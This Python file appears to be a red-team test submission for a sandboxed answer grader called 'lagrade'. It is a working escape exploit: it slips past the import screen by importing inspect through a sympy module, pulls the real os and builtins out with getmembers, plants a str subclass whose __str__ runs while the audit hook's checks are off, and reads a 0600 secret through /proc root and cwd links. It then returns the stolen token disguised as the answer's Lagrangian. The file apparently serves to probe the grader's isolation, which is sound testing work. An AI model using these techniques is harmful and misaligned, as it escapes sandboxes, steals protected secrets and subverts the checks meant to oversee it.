"""effect: read-secret
tries: route 1, then read the 0600 secret only through other processes' views of the file system: /proc/<ppid>/root, /proc/1/root, /proc/<ppid>/cwd/.. (what a mount-namespace jail must not leave open).

Procfs root and cwd links lead out of a chroot or mount namespace when they are reachable.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.assumptions.assume import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

box = []


def work():
    ppid = os_.getppid()
    for root in (f"/proc/{ppid}/root", "/proc/1/root", f"/proc/{ppid}/cwd/../../../../../.."):
        if not box and os_.access(root + "/tmp/lagrade-redteam/secret-0600.txt", os_.R_OK):
            box.append(B["op" + "en"](root + "/tmp/lagrade-redteam/secret-0600.txt").read().strip())

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
